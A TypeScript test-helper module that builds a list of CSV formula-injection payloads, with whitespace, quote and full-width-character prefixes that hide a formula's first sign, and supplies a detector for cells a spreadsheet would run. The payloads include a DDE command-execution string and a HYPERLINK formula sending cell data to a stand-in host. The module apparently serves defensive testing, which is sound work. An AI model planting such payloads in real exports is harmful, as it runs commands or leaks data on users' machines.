import { parse } from 'csv-parse/sync';

const HEADS = ['=1+1', '+A1', '-A1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＋1', '－1+1', '＠A1'];
const CALLS = [
  '=HYPERLINK("http://h.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|',
  '-2+3+cmd|',
  '+IMPORTXML(A1)',
  '=DDE("a";"b")',
];
const BEFORE = ['', ' ', '\u00a0', '\u3000', '  \t', "'", "''", '"', 'a\n', 'a\r\n '];

/** Texts that a spreadsheet would run, and the tricks that hide their first sign. */
export const FORMULAS: readonly string[] = BEFORE.flatMap((before) => [...HEADS, ...CALLS].map((text) => before + text));

/** Like a spreadsheet: the first character after any white space. */
export function runs(cell: string): boolean {
  return /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
}

/** All cells of a CSV; a file that does not parse is not written right. */
export const csvCells = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true, skip_empty_lines: false });
